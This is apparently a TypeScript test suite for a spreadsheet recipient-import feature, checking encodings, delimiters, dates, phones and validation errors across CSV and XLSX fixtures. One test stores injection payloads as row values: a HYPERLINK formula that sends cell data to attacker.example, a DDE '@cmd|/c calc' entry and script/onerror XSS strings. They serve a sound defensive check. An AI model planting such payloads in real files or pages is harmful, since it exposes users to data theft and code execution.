import { test } from '@japa/runner'
import testUtils from '@adonisjs/core/services/test_utils'
import { readFileOfOrg } from '#core/queries/org_files'
import type FileImportRow from '#imports/models/file_import_row'
import { givenOrg } from '#tests/helpers/given'
import { givenImport, rowsOf } from '#tests/helpers/imports'

/**
 * Every file of shared/fixtures/recipients and shared/fixtures/xlsx through
 * the real import path (stored original, read in the worker thread, rows written),
 * with the rows and problems its README implies.
 */

/** Each row's problems as `row code [column]`, errors then warnings. */
function problems(rows: FileImportRow[]) {
  return rows.flatMap((row) =>
    [...row.errors, ...row.warnings].map(
      (issue) => `${row.rowIndex} ${issue.code} [${issue.column ?? '-'}]`
    )
  )
}

test.group('Import fixtures: recipient lists', (group) => {
  group.each.setup(() => testUtils.db().withGlobalTransaction())

  test('clean-50.csv: 50 valid rows, our column names mapped as they are', async ({ assert }) => {
    const { org } = await givenOrg()
    const job = await givenImport(org, 'recipients/clean-50.csv')
    assert.equal(job.status, 'ready')
    assert.deepEqual([job.totalRows, job.validRows, job.errorRows, job.warningRows], [50, 50, 0, 0])
    assert.deepEqual(job.mapping, {
      recipient_name: 'recipient_name',
      recipient_email: 'recipient_email',
      recipient_phone: 'recipient_phone',
      course_name: 'course_name',
      grade: 'grade',
      issue_date: 'completion_date',
    })
    const rows = await rowsOf(job)
    assert.deepEqual(rows[0].data, {
      recipient_name: 'Aarav Sharma',
      recipient_email: 'aarav.sharma.0@example.in',
      recipient_phone: '+919876543210',
      course_name: 'Full Stack Web Development',
      issue_date: '2026-01-01',
      grade: 'A+',
    })
    assert.deepEqual(
      [rows[0].rowIndex, rows.at(-1)!.rowIndex],
      [2, 51],
      'rows are numbered as in the file'
    )
    const { file } = await readFileOfOrg(org.id, job.originalFileId!)
    assert.equal(file.path, `file_imports/${org.id}/${job.id}/original.csv`)
    assert.equal(file.kind, 'import_original')
  }).timeout(30_000)

  test('messy-excel-export.csv: every bad row gets its own error naming the column and the reason; good rows import', async ({
    assert,
  }) => {
    const { org } = await givenOrg()
    const job = await givenImport(org, 'recipients/messy-excel-export.csv')
    assert.equal(job.summary.encoding, 'UTF-8 (with byte order mark)')
    assert.deepEqual(job.columns, [
      'Full Name',
      'Email Address',
      'Mobile No.',
      'Course Name',
      'Date of Completion',
      'Grade',
      'Column G',
    ])
    assert.deepEqual(job.mapping, {
      recipient_name: 'Full Name',
      recipient_email: 'Email Address',
      recipient_phone: 'Mobile No.',
      course_name: 'Course Name',
      issue_date: 'Date of Completion',
      grade: 'Grade',
    })
    const rows = await rowsOf(job)
    assert.deepEqual(problems(rows), [
      '11 W_EMAIL_MISSING [Email Address]',
      '12 E_EMAIL_INVALID [Email Address]',
      '13 E_PHONE_INVALID [Mobile No.]',
      '14 E_DATE_INVALID [Date of Completion]',
      '18 W_DUPLICATE [-]',
      '19 E_TOO_LONG [Full Name]',
    ])
    assert.deepEqual(
      [job.totalRows, job.validRows, job.errorRows, job.warningRows],
      [18, 14, 4, 2],
      'the blank row is not a recipient'
    )
    const byRow = new Map(rows.map((row) => [row.rowIndex, row]))
    assert.match(
      byRow.get(12)!.errors[0].message,
      /^Email Address \(column B\): “bad.email@” is not a valid email address\.$/
    )
    assert.match(
      byRow.get(14)!.errors[0].message,
      /“31\/02\/2026” is not a date we can read, or not a real date/
    )
    assert.match(byRow.get(18)!.warnings[0].message, /Same recipient and data as row 2/)

    // Normalised: spacing, case, E.164 phones, every date format.
    assert.deepInclude(byRow.get(3)!.data, {
      recipient_name: 'Rahul Verma',
      recipient_email: 'rahul.verma@example.in',
      recipient_phone: '+919876543211',
      issue_date: '2026-03-15',
    })
    assert.deepInclude(byRow.get(4)!.data, {
      recipient_name: 'अनन्या गुप्ता',
      recipient_phone: '+919876543212',
      issue_date: '2026-03-15',
      course_name: 'पायथन के साथ डेटा साइंस',
    })
    assert.deepInclude(byRow.get(5)!.data, {
      recipient_name: 'தமிழ்செல்வி முருகன்',
      issue_date: '2026-03-15',
    })
    assert.deepInclude(
      byRow.get(6)!.data,
      { recipient_name: 'সৌরভ গাঙ্গুলী', issue_date: '2026-03-15' },
      'Excel serial 46096'
    )
    assert.deepInclude(byRow.get(7)!.data, {
      recipient_name: 'José Müller-Lüdenscheidt',
      recipient_phone: '+491701234567',
    })
    assert.deepInclude(byRow.get(8)!.data, { recipient_name: '"The Rock" Johnson, Jr.' })
    assert.deepInclude(byRow.get(9)!.data, { recipient_name: 'Multi Line Name' })
    // Values are kept verbatim: formulas and markup are data, neutralised or escaped only where shown.
    assert.equal(
      byRow.get(15)!.data.recipient_name,
      '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
    )
    assert.deepInclude(byRow.get(16)!.data, {
      recipient_name: '+SUM(1,2)',
      course_name: '@cmd|/c calc',
      grade: '-1+1',
    })
    assert.deepInclude(byRow.get(17)!.data, {
      recipient_name: '<script>alert(1)</script>',
      course_name: '<img src=x onerror=alert(1)>',
    })
    assert.equal(byRow.get(9)!.raw[0], 'Multi\nLine Name', 'the raw cell keeps its line break')
    assert.deepEqual(
      byRow.get(20)!.raw.slice(5),
      ['A', 'extra'],
      'the trailing unnamed column is kept, not mapped'
    )
  }).timeout(30_000)

  test('semicolon.csv: the semicolon delimiter is detected', async ({ assert }) => {
    const { org } = await givenOrg()
    const job = await givenImport(org, 'recipients/semicolon.csv')
    assert.equal(job.summary.delimiter, 'semicolon')
    assert.deepEqual([job.totalRows, job.validRows], [10, 10])
  }).timeout(30_000)

  test('utf16le-tab.txt: Excel “Unicode Text” (UTF-16LE with BOM, tab separated) reads with its Devanagari intact', async ({
    assert,
  }) => {
    const { org } = await givenOrg()
    const job = await givenImport(org, 'recipients/utf16le-tab.txt')
    assert.deepEqual(
      [job.summary.encoding, job.summary.delimiter],
      ['UTF-16 little-endian (Excel “Unicode Text”)', 'tab']
    )
    assert.deepEqual([job.totalRows, job.validRows], [11, 11])
    const rows = await rowsOf(job)
    assert.equal(rows.at(-1)!.data.recipient_name, 'अनन्या गुप्ता')
  }).timeout(30_000)

  test('windows-1252.csv: decoded as Windows-1252, accents intact, and the encoding is reported', async ({
    assert,
  }) => {
    const { org } = await givenOrg()
    const job = await givenImport(org, 'recipients/windows-1252.csv')
    assert.equal(job.summary.encoding, 'Windows-1252 (Western European, older Excel)')
    assert.isFalse(job.summary.suspect_mojibake)
    const rows = await rowsOf(job)
    assert.deepEqual(
      rows.map((row) => [row.data.recipient_name, row.data.course_name]),
      [
        ['José Müller', 'Café Management'],
        ['Zoë Çelik', 'Café Management'],
      ]
    )
  }).timeout(30_000)

  test('a UTF-8 file that was already garbled (“JosÃ©”) is flagged, not imported silently as fine', async ({
    assert,
  }) => {
    const { org } = await givenOrg()
    const bytes = new Uint8Array(Buffer.from('name,email\nJosÃ© MÃ¼ller,jose@example.de\n', 'utf8'))
    const job = await givenImport(org, { bytes, name: 'garbled.csv' })
    assert.isTrue(job.summary.suspect_mojibake)
  }).timeout(30_000)

  test('excel-dates-title-row.xlsx: the header under a title and a blank row, real dates, phones stored as numbers, the formula row set aside', async ({
    assert,
  }) => {
    const { org } = await givenOrg()
    const job = await givenImport(org, 'recipients/excel-dates-title-row.xlsx')
    assert.equal(job.headerRow, 3)
    assert.isTrue(job.summary.header_detected)
    assert.equal(job.sheet, 'Batch 7 - March')
    assert.deepEqual(job.summary.sheets, [
      { name: 'Batch 7 - March', hidden: false },
      { name: 'Notes', hidden: false },
    ])
    assert.deepEqual(job.columns, ['Name', 'Email', 'Phone', 'Course', 'Completed On', 'Score'])
    assert.deepEqual([job.totalRows, job.validRows, job.errorRows], [30, 30, 0])
    assert.deepEqual(job.summary.skipped_rows, [
      { row_index: 34, reason: 'only formulas (a total or summary row)' },
    ])
    const allRows = await rowsOf(job, { withSkipped: true })
    const kept = allRows.filter((row) => row.skippedReason)
    assert.deepEqual(
      kept.map((row) => [row.rowIndex, row.raw[5]]),
      [[34, '74.5']],
      'kept, so another mapping can reconsider it'
    )
    const [first] = await rowsOf(job)
    assert.equal(first.rowIndex, 4)
    assert.deepEqual(first.data, {
      recipient_name: 'Aarav Sharma',
      recipient_email: 'aarav.0@example.in',
      recipient_phone: '+919876500000',
      course_name: 'Full Stack Web Development',
      issue_date: '2026-03-01',
      grade: '60',
    })
  }).timeout(30_000)

  test('rows-5000.csv: 5,000 valid rows', async ({ assert }) => {
    const { org } = await givenOrg()
    const job = await givenImport(org, 'recipients/rows-5000.csv')
    assert.deepEqual([job.totalRows, job.validRows, job.errorRows], [5000, 5000, 0])
  }).timeout(60_000)
})

test.group('Import fixtures: spreadsheets from other tools', (group) => {
  group.each.setup(() => testUtils.db().withGlobalTransaction())

  const sheetRows = async (
    file: string,
    options: { headerRow?: number; sheet?: string; mapping?: Record<string, string> } = {}
  ) => {
    const { org } = await givenOrg()
    const job = await givenImport(org, `xlsx/${file}`, options)
    return { job, rows: await rowsOf(job) }
  }

  test('1904.xlsx: a date cell in the 1904 date system reads as its real date', async ({
    assert,
  }) => {
    const { job, rows } = await sheetRows('1904.xlsx', {
      headerRow: 3,
      mapping: { issue_date: 'Column B' },
    })
    assert.equal(job.status, 'ready')
    assert.deepEqual(
      rows.map((row) => [row.raw, row.data.issue_date]),
      [[['', '1904-01-01'], '1904-01-01']]
    )
  }).timeout(30_000)

  test('dateIssue.xlsx: a date cell after a shared-string header', async ({ assert }) => {
    const { job, rows } = await sheetRows('dateIssue.xlsx')
    assert.deepEqual(job.columns, ['Date'])
    assert.deepEqual(
      rows.map((row) => row.raw),
      [['2020-11-20']]
    )
  }).timeout(30_000)

  test('formulas.xlsx: formula cells give their cached results', async ({ assert }) => {
    const { rows } = await sheetRows('formulas.xlsx', { headerRow: 1 })
    assert.deepEqual(
      rows.map((row) => row.raw),
      [['someone@example.com', '(formula without link)']]
    )
  }).timeout(30_000)

  test('google-sheets.xlsx and libre-calc-as-excel-2007-365.xlsx: files written by Google Sheets and LibreOffice read alike', async ({
    assert,
  }) => {
    for (const file of ['google-sheets.xlsx', 'libre-calc-as-excel-2007-365.xlsx']) {
      const { job, rows } = await sheetRows(file)
      assert.deepEqual(job.columns, ['BEGIN', 'HIDDEN', 'VISIBLE'], file)
      assert.deepEqual(
        rows.map((row) => row.raw),
        [['HIDDEN'], ['VISIBLE']],
        file
      )
    }
  }).timeout(30_000)

  test('many-columns.xlsx: every column, with duplicate headers told apart', async ({ assert }) => {
    const { job } = await sheetRows('many-columns.xlsx')
    assert.lengthOf(job.columns, 20)
    assert.deepEqual(job.columns.slice(4, 7), ['many', 'many (2)', 'many (3)'])
  }).timeout(30_000)

  test('shared_string_with_escape.xlsx: OOXML escapes in shared strings are decoded, an escaped underscore stays literal', async ({
    assert,
  }) => {
    const { job } = await sheetRows('shared_string_with_escape.xlsx')
    assert.deepEqual(job.columns, ['_x000D_'])
  }).timeout(30_000)

  test('invalid-xml.xlsx is refused with a clear message', async ({ assert }) => {
    const { job } = await sheetRows('invalid-xml.xlsx')
    assert.equal(job.status, 'failed')
    assert.equal(job.failureCode, 'E_WORKBOOK_INVALID')
    assert.match(
      job.failureMessage!,
      /^This Excel file cannot be read: the workbook part xl\/worksheets\/sheet1\.xml is not valid XML/
    )
  }).timeout(30_000)

  test('test-issue-991.csv: date-like strings are dates only when they are real dates', async ({
    assert,
  }) => {
    const { org } = await givenOrg()
    const job = await givenImport(org, 'xlsx/test-issue-991.csv', {
      headerRow: 1,
      mapping: { issue_date: '2019-11-04' },
    })
    const rows = await rowsOf(job)
    assert.deepEqual(
      rows.map((row) => [
        row.raw[0],
        row.data.issue_date ??
          (row.errors.some((e) => e.code === 'E_DATE_INVALID') ? 'E_DATE_INVALID' : '?'),
      ]),
      [
        ['11-04-2019', '2019-04-11'],
        ['2019-11-04T10:17:55', '2019-11-04'],
        ['00210PRG1', 'E_DATE_INVALID'],
        ['1234-5thisisnotadate', 'E_DATE_INVALID'],
      ]
    )
  }).timeout(30_000)
})
